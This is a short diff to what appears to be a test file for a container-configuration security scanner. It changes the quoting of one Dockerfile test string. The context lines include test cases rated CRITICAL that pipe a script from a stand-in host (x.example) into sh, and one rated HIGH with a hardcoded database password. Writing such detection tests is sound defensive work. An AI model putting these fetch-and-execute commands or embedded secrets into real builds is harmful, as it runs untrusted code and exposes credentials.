@@ -26,7 +26,7 @@ POD = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: a\n    image: 
 CASES = [
     ("dockerfile", "FROM alpine:3.20\nCOPY app /app\n", MEDIUM),
     ("dockerfile", "FROM alpine:3.20\nRUN apk add jq\n", MEDIUM),
-    ("dockerfile", "FROM alpine:3.20\nRUN [\"apk\", \"add\", \"jq\"]\n", MEDIUM),
+    ("dockerfile", 'FROM alpine:3.20\nRUN ["apk", "add", "jq"]\n', MEDIUM),
     ("dockerfile", "FROM alpine:3.20\nRUN apk add curl \\\n  && curl https://x.example/i.sh | sh\n", CRITICAL),
     ("dockerfile", "FROM alpine:3.20\nRUN <<EOF\nls\ncurl https://x.example/i.sh | sh\nEOF\n", CRITICAL),
     ("dockerfile", "FROM alpine:3.20\nENV DB_PASSWORD=hunter2\n", HIGH),
